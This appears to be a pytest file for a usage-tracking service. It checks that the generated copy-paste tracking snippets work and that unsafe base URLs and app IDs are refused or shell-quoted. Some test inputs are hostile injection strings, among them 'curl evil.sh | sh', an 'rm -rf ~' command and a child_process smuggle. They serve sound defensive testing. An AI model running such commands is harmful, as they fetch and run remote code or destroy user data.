"""The copy-paste snippets work as pasted: each one is run (python, bash + curl + openssl,
node) against the real server over HTTP, and the JavaScript signature is compared with the
server's own signing helper."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from app.ingest.signature import sign
from app.settings import Settings
from app.snippets import PRIVACY_NOTE, tracking_snippets
from tests.test_client import LiveServer, serving

BASE = "https://tracker.example.com"
APP = "0b5e7c8e-2f0a-4c55-9d8e-3f4a5b6c7d8e"


def run(argv: list[str], live: LiveServer, *, stdin: str | None = None) -> str:
    """Run a snippet as a user would, with the secret in the environment only."""
    env = {**os.environ, "SAAS_TRACKER_API_SECRET": live.api_secret}
    done = subprocess.run(argv, input=stdin, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return done.stdout


def assert_one_snippet_event_stored(live: LiveServer) -> None:
    [row] = live.wait_for_events(1)
    assert row["event"] == "ai_call_completed"
    assert row["customer_org_id"] == "acme-corp"
    assert row["ai_canonical_model_key"] == "openai/gpt-5.4-mini"
    assert row["ai_cost_status"] == "calculated"


def test_the_python_snippet_sends_an_event_that_is_stored(settings: Settings) -> None:
    with serving(settings) as live:
        snippet = tracking_snippets(live.base_url, live.app_uuid)["python"]
        output = run([sys.executable, "-"], live, stdin=snippet)
        assert_one_snippet_event_stored(live)
        [row] = live.stored()
        assert output == f"tracked {row['event_id']}\n"


def test_the_curl_snippet_sends_an_event_that_is_stored(settings: Settings) -> None:
    with serving(settings) as live:
        snippet = tracking_snippets(live.base_url, live.app_uuid)["curl"]
        output = run(["bash", "-euo", "pipefail", "-c", snippet], live)
        assert json.loads(output)["accepted"] == 1
        assert_one_snippet_event_stored(live)


def test_the_javascript_snippet_sends_an_event_that_is_stored(
    settings: Settings, tmp_path: Path
) -> None:
    with serving(settings) as live:
        script = tmp_path / "track.js"
        script.write_text(tracking_snippets(live.base_url, live.app_uuid)["javascript"])
        output = run(["node", str(script)], live)
        assert output.startswith("accepted [ '")
        assert_one_snippet_event_stored(live)


def test_the_javascript_signature_equals_the_servers_on_a_fixed_non_ascii_body(
    tmp_path: Path,
) -> None:
    body = '{"event":"signup","customer_org_id":"Café Crème ☕","properties":{"n":1}}'
    # fetch is stubbed: only signBody, defined by the snippet, is exercised.
    script = tmp_path / "sign.js"
    script.write_text(
        "globalThis.fetch = async () => ({ status: 202, json: async () => ({ event_ids: [] }) });\n"
        + tracking_snippets(BASE, APP)["javascript"]
        + f"\nconsole.log(signBody('s3cret', {json.dumps(body)}, '1700000000'));\n"
    )
    env = {**os.environ, "SAAS_TRACKER_API_SECRET": "unused"}
    done = subprocess.run(
        ["node", str(script)], env=env, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[0] == sign("s3cret", body.encode(), 1700000000)


def test_without_an_app_uuid_every_snippet_holds_the_placeholder() -> None:
    snippets = tracking_snippets(BASE, None)
    assert sorted(snippets) == ["curl", "javascript", "python"]
    assert all("YOUR_APP_UUID" in text for text in snippets.values())


def test_every_snippet_reads_the_secret_from_the_environment() -> None:
    snippets = tracking_snippets(BASE, APP)
    assert 'os.environ["SAAS_TRACKER_API_SECRET"]' in snippets["python"]
    assert '-hmac "$SAAS_TRACKER_API_SECRET"' in snippets["curl"]
    assert "process.env.SAAS_TRACKER_API_SECRET;" in snippets["javascript"]


@pytest.mark.parametrize(
    "base_url",
    [
        "https://tracker.example.com/'; curl evil.sh | sh; '",
        'https://tracker.example.com/"+require("child_process")+"',
        "javascript:alert(1)",
        "https://tracker.example.com/?q=1",
        "tracker.example.com",
    ],
)
def test_a_base_url_that_is_not_a_plain_http_url_is_refused(base_url: str) -> None:
    with pytest.raises(ValueError):
        tracking_snippets(base_url, APP)


def test_an_app_uuid_that_is_not_a_uuid_is_refused() -> None:
    with pytest.raises(ValueError):
        tracking_snippets(BASE, "'; rm -rf ~ #")


def test_a_trailing_slash_on_the_base_url_is_not_doubled() -> None:
    assert (
        "INGEST_URL=https://tracker.example.com/v1/ingest\n"
        in tracking_snippets(BASE + "/", APP)["curl"]
    )


def test_the_privacy_note_is_the_seed_documents_text() -> None:
    assert PRIVACY_NOTE == (
        "Privacy by design. SaaS Tracker tracks AI usage, cost and value metadata — not your "
        "prompts or generated content by default. Do not send prompt, messages, completion, "
        "output, response_text or any chat transcripts. They are not part of the schema and "
        "will be ignored."
    )


def test_shell_characters_a_url_may_hold_are_quoted_not_run() -> None:
    curl = tracking_snippets("https://tracker.example.com/$(id)", APP)["curl"]
    assert "INGEST_URL='https://tracker.example.com/$(id)/v1/ingest'\n" in curl
